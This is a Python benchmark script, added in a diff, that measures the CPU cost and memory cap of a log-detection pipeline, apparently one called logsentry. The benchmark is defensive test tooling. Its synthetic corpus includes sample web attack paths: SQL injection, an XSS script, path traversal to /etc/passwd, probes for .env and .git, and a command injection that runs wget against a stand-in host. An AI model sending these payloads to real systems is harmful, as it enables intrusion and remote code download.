@@ -1,0 +1,251 @@
+"""Benchmark of the detection stage: cost per event against the rest of the pipeline,
+and memory with a flood of distinct source addresses against the cap.
+
+Usage:
+
+    .venv/bin/python bench/bench_detect.py [--lines 100000] [--sources 1000000]
+        [--cap-mb 256] [--model] [--json out.json]
+
+1. Cost. A labelled line mix (web access with some attack payloads, SSH failures
+   and logins, firewall drops, sudo, system messages with templates; source
+   addresses drawn from a pool of 5,000, 2% of them attackers) goes through
+   envelope parsing and `Event.apply` (the pipeline without the model), then
+   through the shipped rule pack in batches of 512. Reported: microseconds per
+   line of each, the share detection adds, and the CPU detection needs at
+   10,000 lines/s. With `--model` the model's per-line cost on the same lines
+   (exact-line cache cold, structure cache warm as in steady state) is measured
+   and added to the pipeline's cost.
+2. Memory. `--sources` failed SSH logins, each from a new address (the worst
+   case: every event opens groups in several rules), through the shipped pack
+   with the default cap. Reported: the detector's estimate, the process's RSS
+   growth (an upper bound of what the state really holds), groups, evictions.
+"""
+
+from __future__ import annotations
+
+import argparse
+import gc
+import json
+import os
+import random
+import sys
+import time
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+REPO = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(REPO))
+
+from logsentry.analysis.result import Analysis  # noqa: E402
+from logsentry.detect.config import DetectionConfig  # noqa: E402
+from logsentry.detect.detector import Detector  # noqa: E402
+from logsentry.envelope import EnvelopeParser  # noqa: E402
+from logsentry.event import Event  # noqa: E402
+
+BATCH = 512
+PAGE = os.sysconf("SC_PAGE_SIZE")
+
+
+def rss_bytes() -> int:
+    with open("/proc/self/statm") as handle:
+        return int(handle.read().split()[1]) * PAGE
+
+
+def _ip(rng: random.Random, pool: int) -> str:
+    n = rng.randrange(pool)
+    return f"198.{18 + n // 65536 % 2}.{n // 256 % 256}.{n % 256}"
+
+
+URLS = ["/", "/index.html", "/static/app.js", "/api/items?page=2", "/login", "/img/logo.png",
+        "/blog/2024/10/post", "/search?q=shoes", "/favicon.ico", "/robots.txt"]
+ATTACKS = ["/item?id=1%27%20union%20select%20password%20from%20users--",
+           "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/../../etc/passwd", "/.env", "/.git/config",
+           "/cgi-bin/test?cmd=;wget%20http://x/a.sh", "/wp-login.php"]
+USERS = ["root", "admin", "alice", "bob", "deploy", "oracle", "test", "ubuntu"]
+
+
+def make_corpus(count: int, seed: int = 7) -> list[tuple[str, Analysis]]:
+    """Lines with the labels the analyzer would give them (no model needed)."""
+    rng = random.Random(seed)
+    out: list[tuple[str, Analysis]] = []
+    start = datetime(2025, 3, 1, tzinfo=UTC).timestamp()
+    for i in range(count):
+        when = datetime.fromtimestamp(start + i / 100, UTC)
+        stamp = when.strftime("%b %d %H:%M:%S")
+        clf = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
+        attacker = rng.random() < 0.02
+        ip = _ip(rng, 100) if attacker else _ip(rng, 5000)
+        kind = rng.random()
+        if kind < 0.5:
+            url = rng.choice(ATTACKS) if attacker else rng.choice(URLS)
+            status = 404 if attacker and rng.random() < 0.7 else rng.choice((200, 200, 304, 404))
+            line = (f'{ip} - - [{clf}] "GET {url} HTTP/1.1" {status} 512 "-" '
+                    f'"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"')
+            out.append((line, Analysis("web_request", {}, "<ip> - - [<*>] \"GET <*>\" <*>", 0.99)))
+        elif kind < 0.7:
+            user = rng.choice(USERS)
+            port = rng.randrange(1024, 65535)
+            if rng.random() < 0.8:
+                line = (f"{stamp} web-1 sshd[{1000 + i % 5000}]: Failed password for {user} "
+                        f"from {ip} port {port} ssh2")
+                analysis = Analysis("ssh_login_failed", {"user.name": user, "source.ip": ip,
+                                                         "source.port": str(port)},
+                                    "Failed password for <*> from <*> port <*> ssh2", 0.99)
+            else:
+                line = (f"{stamp} web-1 sshd[{1000 + i % 5000}]: Accepted publickey for {user} "
+                        f"from {ip} port {port} ssh2")
+                analysis = Analysis("ssh_login_success", {"user.name": user, "source.ip": ip,
+                                                          "source.port": str(port)},
+                                    "Accepted publickey for <*> from <*> port <*> ssh2", 0.99)
+            out.append((line, analysis))
+        elif kind < 0.8:
+            dport = rng.randrange(1, 1024) if attacker else rng.choice((22, 80, 443))
+            line = (f"{stamp} fw-1 kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=10.0.0.1 "
+                    f"PROTO=TCP SPT=4444 DPT={dport}")
+            out.append((line, Analysis("firewall_drop", {"source.ip": ip, "destination.ip":
+                                                         "10.0.0.1", "destination.port":
+                                                         str(dport)},
+                                       "[UFW BLOCK] IN=<*> SRC=<*> DST=<*> DPT=<*>", 0.99)))
+        elif kind < 0.85:
+            user = rng.choice(USERS)
+            line = (f"{stamp} web-1 sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
+                    f"COMMAND=/usr/bin/systemctl restart nginx")
+            out.append((line, Analysis("sudo_command", {"user.name": user,
+                                                        "user.effective.name": "root"},
+                                       "<*> : TTY=<*> ; PWD=<*> ; USER=<*> ; COMMAND=<*>", 0.99)))
+        else:
+            n = rng.randrange(40)
+            line = f"{stamp} web-1 systemd[1]: Started session {i} of user u{n} (template {n})."
+            out.append((line, Analysis("other", {}, f"Started session <*> of user <*> {n}.",
+                                       0.9)))
+    return out
+
+
+def pipeline_events(corpus: list[tuple[str, Analysis]]) -> tuple[list[Event], float]:
+    """Envelope parsing + applying labels, as the pipeline does; seconds taken."""
+    parser = EnvelopeParser(tz=UTC)
+    started = time.perf_counter()
+    events = []
+    for line, analysis in corpus:
+        event = parser.parse(line, time.time())
+        event.apply(analysis)
+        events.append(event)
+    return events, time.perf_counter() - started
+
+
+def model_seconds(lines: list[str]) -> float | None:
+    try:
+        from logsentry.model import load_analyzer
+
+        analyzer = load_analyzer(threads=1)
+    except Exception as exc:  # no model built yet
+        print(f"model not available ({exc}); pipeline cost excludes the model", file=sys.stderr)
+        return None
+    parser = EnvelopeParser(tz=UTC)
+    bodies = [parser.parse(line, 0.0).body for line in lines]
+    analyzer.analyze_batch(bodies[:2000])  # warm the structure cache on a slice
+    started = time.perf_counter()
+    for begin in range(0, len(bodies), 64):
+        analyzer.analyze_batch(bodies[begin:begin + 64])
+    return time.perf_counter() - started
+
+
+def bench_cost(lines: int, with_model: bool, repeats: int = 3) -> dict[str, Any]:
+    corpus = make_corpus(lines)
+    # Best of `repeats` for each part, interleaved: the machine is shared, and the
+    # minimum is the figure least disturbed by neighbours.
+    envelope_runs, detect_runs = [], []
+    alerts = 0
+    detector = Detector.from_config(DetectionConfig(), None)
+    for _ in range(repeats):
+        events, envelope_s = pipeline_events(corpus)
+        envelope_runs.append(envelope_s)
+        detector = Detector.from_config(DetectionConfig(), None)
+        gc.collect()
+        started = time.perf_counter()
+        alerts = 0
+        for begin in range(0, len(events), BATCH):
+            alerts += len(detector.process(events[begin:begin + BATCH]))
+        detect_runs.append(time.perf_counter() - started)
+    envelope_s, detect_s = min(envelope_runs), min(detect_runs)
+    model_s = model_seconds([line for line, _ in corpus]) if with_model else None
+    pipeline_s = envelope_s + (model_s or 0.0)
+    per_line = {
+        "envelope_apply_us": envelope_s / lines * 1e6,
+        "model_us": (model_s / lines * 1e6) if model_s is not None else None,
+        "detection_us": detect_s / lines * 1e6,
+    }
+    return {
+        "lines": lines,
+        "rules": len(detector.rules),
+        "alerts": alerts,
+        **{k: (round(v, 2) if v is not None else None) for k, v in per_line.items()},
+        "detection_share_of_pipeline_without_detection": round(detect_s / pipeline_s, 4),
+        "pipeline_includes_model": model_s is not None,
+        "detection_cpu_at_10k_lines_s": round(detect_s / lines * 10_000, 4),
+        "groups": detector.group_count,
+        "state_estimate_mb": round(detector.memory_bytes / 2**20, 2),
+    }
+
+
+def bench_memory(sources: int, cap_mb: int) -> dict[str, Any]:
+    detector = Detector.from_config(DetectionConfig(memory_cap_mb=cap_mb), None)
+    parser = EnvelopeParser(tz=UTC)
+    start = datetime(2025, 3, 1, tzinfo=UTC).timestamp()
+    gc.collect()
+    rss_before = rss_bytes()
+    peak_estimate = 0
+    started = time.perf_counter()
+    batch: list[Event] = []
+    for n in range(sources):
+        ip = f"{10 + n // 16777216}.{n // 65536 % 256}.{n // 256 % 256}.{n % 256}"
+        when = datetime.fromtimestamp(start + n / 10_000, UTC)
+        line = (f"{when:%b %d %H:%M:%S} web-1 sshd[{n % 30000}]: Failed password for root "
+                f"from {ip} port 4711 ssh2")
+        event = parser.parse(line, start + n / 10_000)
+        event.apply(Analysis("ssh_login_failed", {"user.name": "root", "source.ip": ip},
+                             "Failed password for <*> from <*> port <*> ssh2", 0.99))
+        batch.append(event)
+        if len(batch) == BATCH:
+            detector.process(batch)
+            batch = []
+            peak_estimate = max(peak_estimate, detector.memory_bytes)
+    detector.process(batch)
+    seconds = time.perf_counter() - started
+    batch = []
+    gc.collect()
+    rss_after = rss_bytes()
+    return {
+        "sources": sources,
+        "cap_mb": cap_mb,
+        "estimate_mb": round(detector.memory_bytes / 2**20, 1),
+        "peak_estimate_mb": round(peak_estimate / 2**20, 1),
+        "rss_growth_mb": round((rss_after - rss_before) / 2**20, 1),
+        "groups": detector.group_count,
+        "evictions": detector.evictions,
+        "us_per_event": round(seconds / sources * 1e6, 2),
+    }
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--lines", type=int, default=100_000)
+    parser.add_argument("--sources", type=int, default=1_000_000)
+    parser.add_argument("--cap-mb", type=int, default=256)
+    parser.add_argument("--model", action="store_true", help="include the model's cost")
+    parser.add_argument("--json", type=Path)
+    parser.add_argument("--skip-memory", action="store_true")
+    args = parser.parse_args()
+    report: dict[str, Any] = {"cost": bench_cost(args.lines, args.model)}
+    print(json.dumps(report["cost"], indent=2), flush=True)
+    if not args.skip_memory:
+        report["memory"] = bench_memory(args.sources, args.cap_mb)
+        print(json.dumps(report["memory"], indent=2))
+    if args.json:
+        args.json.write_text(json.dumps(report, indent=2))
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
